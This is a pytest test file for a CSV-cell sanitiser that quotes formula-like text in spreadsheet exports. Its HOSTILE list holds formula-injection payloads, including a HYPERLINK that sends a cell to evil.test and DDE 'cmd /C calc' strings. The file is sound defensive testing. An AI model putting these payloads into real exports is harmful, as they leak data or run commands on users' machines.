"""CSV cells: text a spreadsheet would run as a formula is neutralised; numbers and plain text are untouched."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from views_api.csv_cells import FORMULA_STARTS, csv_text, safe_cell

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "@SUM(A1)",
    "+1",
    "-1+1",
    "-1",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u3000=1",
    '"=1"',
    "'=1",
    "\"' =cmd|' /C calc'!A0",
    "\uff1d1+1",  # fullwidth equals
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe621",
    "-cmd|' /C calc'!A0",
    "\t",
]
PLAIN = ["pump", "looking for blue widgets", "a=b", "1+1", "user@example.test", "", "'quoted'", "2026-03-18", " x"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_text_gets_a_quote_in_front(cell: str) -> None:
    safe = safe_cell(cell)
    assert safe == "'" + cell
    assert isinstance(safe, str) and safe[0] not in FORMULA_STARTS


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_text_is_untouched(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("value", [-1, -2.5, Decimal("-0.000123"), 0, 12, None, True])
def test_numbers_we_produce_stay_numbers(value: object) -> None:
    assert safe_cell(value) is value


def test_datetimes_are_iso_utc() -> None:
    assert safe_cell(datetime(2026, 3, 18, 15, 30, tzinfo=UTC)) == "2026-03-18T15:30:00Z"


def test_csv_text_round_trips_to_neutralised_cells() -> None:
    text = csv_text([["id", "search_query", "cost_usd"], ["e1", "=1+1", Decimal("-1.5")], ["e2", '@A1,"x"', 3]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["id", "search_query", "cost_usd"],
        ["e1", "'=1+1", "-1.5"],
        ["e2", '\'@A1,"x"', "3"],
    ]
    assert text.endswith("\r\n")
